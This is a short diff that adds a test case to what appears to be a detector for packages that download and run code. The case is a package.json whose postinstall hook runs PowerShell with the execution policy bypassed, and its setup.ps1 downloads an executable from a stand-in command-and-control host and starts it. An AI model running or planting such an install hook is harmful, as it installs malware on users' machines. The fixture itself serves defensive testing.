@@ -98,6 +98,14 @@ examine(runsDownloadedCode, {
       },
       weight: 'proof',
     },
+    {
+      when: 'a script of PowerShell fetches a program and starts it',
+      files: {
+        'package.json': { name: 'specimen', scripts: { postinstall: 'powershell -ExecutionPolicy Bypass -File .\\setup.ps1' } },
+        'setup.ps1': 'Invoke-WebRequest -Uri http://c2.invalid/a.exe -OutFile $env:TEMP\\a.exe\nStart-Process $env:TEMP\\a.exe\n',
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
